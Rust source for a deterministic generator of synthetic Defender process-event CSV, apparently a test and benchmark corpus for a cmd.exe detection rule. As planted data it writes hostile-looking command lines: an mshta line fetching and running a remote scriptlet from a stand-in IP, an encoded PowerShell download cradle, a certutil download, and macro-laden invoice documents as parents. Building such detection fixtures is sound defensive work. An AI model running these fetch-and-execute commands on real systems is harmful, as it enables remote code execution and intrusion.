//! A deterministic generator of synthetic Defender `DeviceProcessEvents` CSV.
//!
//! Rows carry the full column set of the advanced-hunting table (the header
//! the Defender advanced-hunting CSV export writes, up to `AdditionalFields`,
//! plus the later session and unique-id columns), with realistic values:
//! `cmd.exe` in about 10% of rows, about 0.5% true positives spread over all
//! 22 patterns and 9 parents, near misses (`preg add`, `certutil -urlcachex`,
//! `mywinword.exe`), rule patterns in rows that are not `cmd.exe`, quoted
//! command lines with doubled quotes and commas, a few embedded line breaks,
//! and JSON in `AdditionalFields`.
//!
//! The expected number of flagged rows is computed with the core's *reference*
//! KQL functions ([`cmdhunt_core::kql`]) on the unescaped values as written,
//! and cross-checked against what the generator meant to plant.
//!
//! This file depends on std, `cmdhunt_core` and its sibling `catalog` only,
//! so the core's fast-path test includes both with `#[path]`.

use std::io::{self, Write};

use cmdhunt_core::rule::{SUSPICIOUS_PARENTS, SUSPICIOUS_PATTERNS};
use cmdhunt_core::time::{Timestamp, TICKS_PER_SEC};
use cmdhunt_core::{kql, mapping};

use crate::catalog::{
    Image, BAD_PARENTS, BENIGN_SHELL_LINES, CHILDREN, CMD, PARENTS, PATTERN_LINES,
};

/// The CSV header: Microsoft's `DeviceProcessEvents` columns, in export order.
pub const COLUMNS: [&str; 67] = [
    "Timestamp",
    "DeviceId",
    "DeviceName",
    "ActionType",
    "FileName",
    "FolderPath",
    "SHA1",
    "SHA256",
    "MD5",
    "FileSize",
    "ProcessVersionInfoCompanyName",
    "ProcessVersionInfoProductName",
    "ProcessVersionInfoProductVersion",
    "ProcessVersionInfoInternalFileName",
    "ProcessVersionInfoOriginalFileName",
    "ProcessVersionInfoFileDescription",
    "ProcessId",
    "ProcessCommandLine",
    "ProcessIntegrityLevel",
    "ProcessTokenElevation",
    "ProcessCreationTime",
    "AccountDomain",
    "AccountName",
    "AccountSid",
    "AccountUpn",
    "AccountObjectId",
    "LogonId",
    "InitiatingProcessAccountDomain",
    "InitiatingProcessAccountName",
    "InitiatingProcessAccountSid",
    "InitiatingProcessAccountUpn",
    "InitiatingProcessAccountObjectId",
    "InitiatingProcessLogonId",
    "InitiatingProcessIntegrityLevel",
    "InitiatingProcessTokenElevation",
    "InitiatingProcessSHA1",
    "InitiatingProcessSHA256",
    "InitiatingProcessMD5",
    "InitiatingProcessFileName",
    "InitiatingProcessFileSize",
    "InitiatingProcessVersionInfoCompanyName",
    "InitiatingProcessVersionInfoProductName",
    "InitiatingProcessVersionInfoProductVersion",
    "InitiatingProcessVersionInfoInternalFileName",
    "InitiatingProcessVersionInfoOriginalFileName",
    "InitiatingProcessVersionInfoFileDescription",
    "InitiatingProcessId",
    "InitiatingProcessCommandLine",
    "InitiatingProcessCreationTime",
    "InitiatingProcessFolderPath",
    "InitiatingProcessParentId",
    "InitiatingProcessParentFileName",
    "InitiatingProcessParentCreationTime",
    "InitiatingProcessSignerType",
    "InitiatingProcessSignatureStatus",
    "ReportId",
    "AppGuardContainerId",
    "AdditionalFields",
    "InitiatingProcessSessionId",
    "IsInitiatingProcessRemoteSession",
    "InitiatingProcessRemoteSessionDeviceName",
    "InitiatingProcessRemoteSessionIP",
    "CreatedProcessSessionId",
    "IsProcessRemoteSession",
    "ProcessRemoteSessionDeviceName",
    "ProcessRemoteSessionIP",
    "ProcessUniqueId",
];

/// What to generate.
#[derive(Debug, Clone)]
pub struct GenOptions {
    /// PRNG seed: the same seed and size give the same bytes.
    pub seed: u64,
    /// Stop after the first row that brings the file to this many bytes.
    pub target_bytes: u64,
    /// End rows with CRLF instead of LF.
    pub crlf: bool,
    /// Test variety: other `ActionType`s, mixed and unreadable timestamp
    /// formats, non-ASCII command lines. Off for the benchmark corpus (a real
    /// `DeviceProcessEvents` export is all `ProcessCreated`, ISO times).
    pub variety: bool,
}

impl Default for GenOptions {
    fn default() -> Self {
        GenOptions {
            seed: 0x5eed_c0de,
            target_bytes: 100_000_000,
            crlf: false,
            variety: false,
        }
    }
}

/// What was generated, and what the rule must find (under `--window all`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct GenStats {
    /// Bytes written (header included).
    pub bytes: u64,
    /// Data records (header excluded).
    pub records: u64,
    /// Records whose `ActionType` is `ProcessCreated`.
    pub process_creations: u64,
    /// Process creations whose `FileName =~ "cmd.exe"`.
    pub shell: u64,
    /// Rows the rule flags (reference KQL functions on the written values).
    pub flagged: u64,
    /// True positives the generator planted on purpose (equals `flagged`).
    pub planted: u64,
    /// Records with a line break inside a quoted field.
    pub multiline: u64,
}

impl GenStats {
    /// `key=value` lines, as written to the `.expected` file beside the CSV.
    pub fn to_text(&self) -> String {
        format!(
            "bytes={}\nrecords={}\nprocess_creations={}\nshell={}\nflagged={}\nplanted={}\nmultiline={}\n",
            self.bytes,
            self.records,
            self.process_creations,
            self.shell,
            self.flagged,
            self.planted,
            self.multiline
        )
    }

    /// Parse [`GenStats::to_text`] output.
    pub fn from_text(text: &str) -> Option<GenStats> {
        let mut s = GenStats::default();
        for line in text.lines() {
            let (k, v) = line.split_once('=')?;
            let v: u64 = v.trim().parse().ok()?;
            match k.trim() {
                "bytes" => s.bytes = v,
                "records" => s.records = v,
                "process_creations" => s.process_creations = v,
                "shell" => s.shell = v,
                "flagged" => s.flagged = v,
                "planted" => s.planted = v,
                "multiline" => s.multiline = v,
                _ => return None,
            }
        }
        Some(s)
    }
}

/// SplitMix64: small, fast, deterministic.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (n > 0).
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    /// True with probability `per_mille / 1000`.
    fn chance(&mut self, per_mille: u64) -> bool {
        self.below(1000) < per_mille
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// A deterministic hex string of `len` digits derived from `key`.
fn hex(key: u64, len: usize) -> String {
    let mut r = Rng(key ^ 0xa5a5_5a5a);
    let mut s = String::with_capacity(len);
    while s.len() < len {
        s.push_str(&format!("{:016x}", r.next()));
    }
    s.truncate(len);
    s
}

fn name_key(name: &str) -> u64 {
    name.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    })
}

fn guid(r: &mut Rng) -> String {
    let h = hex(r.next(), 32);
    format!(
        "{}-{}-{}-{}-{}",
        &h[..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..]
    )
}

/// Command lines of other processes (some contain rule patterns: not flagged,
/// because the process is not `cmd.exe`).
fn child_command_line(r: &mut Rng, image: &Image) -> String {
    match image.name {
        "svchost.exe" => format!(r"C:\Windows\system32\svchost.exe -k {} -p -s {}", r.pick(&["netsvcs", "LocalService", "UnistackSvcGroup", "DcomLaunch"]), r.pick(&["Schedule", "BITS", "wuauserv", "Appinfo", "LanmanServer"])),
        "conhost.exe" => r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1".to_string(),
        "chrome.exe" => format!(
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1896,i,{},{},262144 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={} --time-ticks-at-unix-epoch=-1714{:09} --launch-time-ticks={} --mojo-platform-channel-handle={} /prefetch:1"#,
            r.next() % 100_000_000_000,
            r.next() % 100_000_000_000,
            r.below(400),
            r.below(1_000_000_000),
            r.below(100_000_000_000),
            r.below(10_000)
        ),
        "msedge.exe" => format!(r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={} --field-trial-handle=2044,i,{},{},262144 /prefetch:3"#, r.below(10_000), r.next() % 10_000_000_000, r.next() % 10_000_000_000),
        "powershell.exe" => match r.below(3) {
            0 => r#"powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "& {reg add HKCU\Software\Contoso /v Last /d (Get-Date) /f}""#.to_string(),
            1 => r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NonInteractive -File "C:\Program Files\Contoso\Agent\inventory.ps1""#.to_string(),
            _ => "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA".to_string(),
        },
        "reg.exe" => r"reg add HKLM\SOFTWARE\Contoso\Agent /v Heartbeat /t REG_DWORD /d 1 /f".to_string(),
        "rundll32.exe" => r"rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding".to_string(),
        "taskhostw.exe" => "taskhostw.exe Install $(Arg0)".to_string(),
        "git.exe" => format!(r#""C:\Program Files\Git\cmd\git.exe" -c core.quotepath=false fetch --no-tags origin refs/heads/feature-{}"#, r.below(1000)),
        "OneDrive.exe" => r#""C:\Users\Public\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /updateInstalled /background"#.to_string(),
        "WmiPrvSE.exe" => r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding".to_string(),
        _ => r"certutil -urlcache -split -f http://crl.contoso.com/root.crl C:\Windows\Temp\root.crl".to_string(),
    }
}

const USERS: [&str; 8] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "svc_sccm", "system",
];

/// Writes `value` as a CSV field (quoted when it must be).
fn field(out: &mut Vec<u8>, value: &str) {
    if value
        .bytes()
        .any(|b| matches!(b, b',' | b'"' | b'\n' | b'\r'))
    {
        out.push(b'"');
        for b in value.bytes() {
            if b == b'"' {
                out.push(b'"');
            }
            out.push(b);
        }
        out.push(b'"');
    } else {
        out.extend_from_slice(value.as_bytes());
    }
}

fn time_text(r: &mut Rng, t: Timestamp, variety: bool) -> String {
    if !variety {
        return t.to_string();
    }
    let (y, mo, d, h, mi, s, ticks) = t.parts();
    match r.below(20) {
        0 => String::new(),
        1 => "not a time".to_string(),
        2 => format!(
            "{y:04}-{mo:02}-{d:02} {h:02}:{mi:02}:{s:02}.{:03}",
            ticks / 10_000
        ),
        3 => format!(
            "{mo}/{d}/{y}, {}:{mi:02}:{s:02}.{:03} {}",
            (h + 11) % 12 + 1,
            ticks / 10_000,
            if h < 12 { "AM" } else { "PM" }
        ),
        4 => format!("{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}Z"),
        _ => t.to_string(),
    }
}

/// What one row's rule inputs are (unescaped), to compute the expectation.
struct Truth<'a> {
    action: &'a str,
    file_name: &'a str,
    command_line: &'a str,
    parent: &'a str,
}

fn flagged_by_reference(t: &Truth<'_>) -> bool {
    mapping::classify(Some(t.action), None).is_ok()
        && kql::equals_ci(t.file_name, "cmd.exe")
        && (SUSPICIOUS_PATTERNS
            .iter()
            .any(|n| kql::has(t.command_line, n.value))
            || SUSPICIOUS_PARENTS
                .iter()
                .any(|n| kql::has(t.parent, n.value)))
}

/// Random ASCII case changes (`has` and `=~` ignore case).
fn recase(r: &mut Rng, s: &str) -> String {
    match r.below(4) {
        0 => s.to_uppercase(),
        1 => s
            .chars()
            .map(|c| {
                if r.chance(300) {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect(),
        _ => s.to_string(),
    }
}

/// Generate a CSV into `out`.
pub fn generate(opts: &GenOptions, out: &mut impl Write) -> io::Result<GenStats> {
    let mut r = Rng(opts.seed);
    let eol: &[u8] = if opts.crlf { b"\r\n" } else { b"\n" };
    let mut stats = GenStats::default();
    let mut row = Vec::with_capacity(8192);
    row.extend_from_slice(COLUMNS.join(",").as_bytes());
    row.extend_from_slice(eol);
    out.write_all(&row)?;
    stats.bytes = row.len() as u64;

    let devices: Vec<(String, String)> = (0..200u64)
        .map(|i| {
            (
                hex(i * 7919 + 1, 40),
                format!(
                    "ws-{}-{i:04}.corp.contoso.com",
                    ["fin", "hr", "eng", "ops"][i as usize % 4]
                ),
            )
        })
        .collect();
    let mut t = Timestamp(1_714_521_600 * TICKS_PER_SEC); // 2024-05-01T00:00:00Z
    let mut report_id: u64 = 10_000;
    let mut fields: Vec<String> = Vec::with_capacity(COLUMNS.len());

    while stats.bytes < opts.target_bytes {
        stats.records += 1;
        t = Timestamp(t.0 + (r.below(40_000) as i64) * 10_000); // 0-40 ms apart
        let (device_id, device_name) = &devices[r.below(devices.len() as u64) as usize];
        let user = *r.pick(&USERS);
        let action = if opts.variety && r.chance(100) {
            *r.pick(&[
                "ProcessCreated ",
                "FileCreated",
                "ConnectionSuccess",
                "processcreated",
                "",
            ])
        } else {
            "ProcessCreated"
        };

        // Child, command line, parent; and whether a true positive is planted.
        let mut planted = false;
        let roll = r.below(1000);
        let (child, command_line, parent): (&Image, String, &Image) = if roll < 100 {
            let tp = r.below(1000) < 50; // 5% of cmd.exe rows
            let (line, parent) = if tp {
                planted = true;
                match r.below(31) {
                    k @ 0..=21 => (recase(&mut r, PATTERN_LINES[k as usize]), r.pick(&PARENTS)),
                    k => (
                        r.pick(&BENIGN_SHELL_LINES).to_string(),
                        &BAD_PARENTS[(k - 22) as usize],
                    ),
                }
            } else {
                (r.pick(&BENIGN_SHELL_LINES).to_string(), r.pick(&PARENTS))
            };
            let mut line = line;
            if r.chance(20) {
                // An embedded line break inside the quoted command line.
                line.push_str(" && echo \"done,\r\nnext\"");
            }
            if opts.variety && r.chance(100) {
                line.push_str(" & echo Grüße, ПРИВЕТ REG ADD");
            }
            (&CMD, line, parent)
        } else {
            let child = r.pick(&CHILDREN);
            let parent = if r.chance(20) {
                r.pick(&BAD_PARENTS)
            } else {
                r.pick(&PARENTS)
            };
            (child, child_command_line(&mut r, child), parent)
        };
        let file_name = if child.name == "cmd.exe" && r.chance(100) {
            "CMD.EXE"
        } else {
            child.name
        };

        let truth = Truth {
            action,
            file_name,
            command_line: &command_line,
            parent: parent.name,
        };
        let flagged = flagged_by_reference(&truth);
        if mapping::classify(Some(action), None).is_ok() {
            stats.process_creations += 1;
            if kql::equals_ci(file_name, "cmd.exe") {
                stats.shell += 1;
            }
            if planted {
                stats.planted += 1;
            }
        }
        stats.flagged += u64::from(flagged);
        // In variety mode the action or a Unicode tail may defeat a plant; the
        // benchmark corpus must agree with the plan exactly.
        if !opts.variety {
            assert_eq!(
                planted, flagged,
                "generator bug: plan and reference disagree on {command_line:?} / {}",
                parent.name
            );
        }

        let pid = 1000 + r.below(60_000);
        let ppid = 1000 + r.below(60_000);
        let parent_time = Timestamp(t.0 - (r.below(3_600_000) as i64) * 10_000);
        let now = time_text(&mut r, t, opts.variety);
        let parent_cmd = match parent.name {
            "explorer.exe" => r"C:\Windows\Explorer.EXE".to_string(),
            "services.exe" => r"C:\Windows\system32\services.exe".to_string(),
            "WINWORD.EXE" | "EXCEL.EXE" | "POWERPNT.EXE" => format!(r#""{}" /n "C:\Users\{user}\Downloads\Invoice_{}.docm" /o """#, parent.folder, r.below(10_000)),
            "mshta.exe" => r#"mshta.exe "javascript:a=GetObject('script:http://198.51.100.7/x.sct').Exec();close()""#.to_string(),
            "wscript.exe" | "cscript.exe" => format!(r#"{} //B //Nologo "C:\Users\{user}\AppData\Local\Temp\run.vbs""#, parent.name),
            _ => format!(r#""{}""#, parent.folder),
        };
        let additional = if r.chance(300) {
            String::new()
        } else if r.chance(5) {
            // Pretty-printed JSON: line breaks late in the record.
            format!(
                "{{\n  \"ProcessStartKey\": {},\n  \"TokenElevationType\": \"Full\"\n}}",
                r.next() % 10_000_000_000_000_000
            )
        } else {
            format!(
                r#"{{"ProcessStartKey":{},"InitiatingProcessStartKey":{},"TokenElevationType":"{}","IsProcessRemoteSession":false,"ParentProcessTrustLevel":"{}"}}"#,
                r.next() % 10_000_000_000_000_000,
                r.next() % 10_000_000_000_000_000,
                r.pick(&["Default", "Full", "Limited"]),
                r.pick(&["Medium", "High", "System"])
            )
        };
        let domain = if user.starts_with("svc") || user == "system" {
            "nt authority"
        } else {
            "contoso"
        };
        let sid = format!(
            "S-1-5-21-{}-{}-{}-{}",
            1_004_336_348,
            1_177_238_915,
            682_003_330,
            1000 + name_key(user) % 9000
        );
        let upn = if domain == "contoso" {
            format!("{user}@contoso.com")
        } else {
            String::new()
        };
        let integrity = *r.pick(&["Medium", "High", "System"]);
        let elevation = *r.pick(&[
            "TokenElevationTypeDefault",
            "TokenElevationTypeFull",
            "TokenElevationTypeLimited",
        ]);
        let logon = format!("{}", r.below(10_000_000));
        let folder = child
            .folder
            .rsplit_once('\\')
            .map_or(child.folder, |(d, _)| d);
        let pfolder = parent
            .folder
            .rsplit_once('\\')
            .map_or(parent.folder, |(d, _)| d);
        let object_id = guid(&mut r);
        report_id += 1 + r.below(3);

        fields.clear();
        let f = &mut fields;
        f.push(now.clone());
        f.push(device_id.clone());
        f.push(device_name.clone());
        f.push(action.to_string());
        f.push(file_name.to_string());
        f.push(folder.to_string());
        f.push(hex(name_key(child.name), 40));
        f.push(hex(name_key(child.name) ^ 1, 64));
        f.push(hex(name_key(child.name) ^ 2, 32));
        f.push(child.size.to_string());
        f.push(child.company.to_string());
        f.push(child.product.to_string());
        f.push(child.version.to_string());
        f.push(child.name.to_string());
        f.push(child.name.to_string());
        f.push(child.description.to_string());
        f.push(pid.to_string());
        f.push(command_line.clone());
        f.push(integrity.to_string());
        f.push(elevation.to_string());
        f.push(now.clone());
        f.push(domain.to_string());
        f.push(user.to_string());
        f.push(sid.clone());
        f.push(upn.clone());
        f.push(object_id.clone());
        f.push(logon.clone());
        f.push(domain.to_string());
        f.push(user.to_string());
        f.push(sid);
        f.push(upn);
        f.push(object_id);
        f.push(logon);
        f.push(integrity.to_string());
        f.push(elevation.to_string());
        f.push(hex(name_key(parent.name), 40));
        f.push(hex(name_key(parent.name) ^ 1, 64));
        f.push(hex(name_key(parent.name) ^ 2, 32));
        f.push(parent.name.to_string());
        f.push(parent.size.to_string());
        f.push(parent.company.to_string());
        f.push(parent.product.to_string());
        f.push(parent.version.to_string());
        f.push(parent.name.to_string());
        f.push(parent.name.to_string());
        f.push(parent.description.to_string());
        f.push(ppid.to_string());
        f.push(parent_cmd);
        f.push(parent_time.to_string());
        f.push(pfolder.to_string());
        f.push((1000 + r.below(60_000)).to_string());
        f.push(
            r.pick(&[
                "explorer.exe",
                "services.exe",
                "userinit.exe",
                "svchost.exe",
            ])
            .to_string(),
        );
        f.push(Timestamp(parent_time.0 - 864_000_000_000).to_string());
        f.push(
            r.pick(&["OsVendor", "Microsoft", "ThirdParty", ""])
                .to_string(),
        );
        f.push(r.pick(&["Valid", "Valid", "Unknown"]).to_string());
        f.push(report_id.to_string());
        f.push(String::new());
        f.push(additional);
        f.push(r.pick(&["1", "2", "0"]).to_string());
        f.push("false".to_string());
        f.push(String::new());
        f.push(String::new());
        f.push(r.pick(&["1", "2", "0"]).to_string());
        f.push("false".to_string());
        f.push(String::new());
        f.push(String::new());
        f.push(r.next().to_string());
        debug_assert_eq!(f.len(), COLUMNS.len());

        if f.iter().any(|v| v.contains('\n')) {
            stats.multiline += 1;
        }
        row.clear();
        for (i, value) in f.iter().enumerate() {
            if i > 0 {
                row.push(b',');
            }
            field(&mut row, value);
        }
        row.extend_from_slice(eol);
        out.write_all(&row)?;
        stats.bytes += row.len() as u64;
    }
    Ok(stats)
}

/// The rule's needles (22 patterns, 9 parents), one a line, for `rg -F -f`.
pub fn patterns_file() -> String {
    let mut s = String::new();
    for n in SUSPICIOUS_PATTERNS.iter().chain(SUSPICIOUS_PARENTS.iter()) {
        s.push_str(n.value);
        s.push('\n');
    }
    s
}
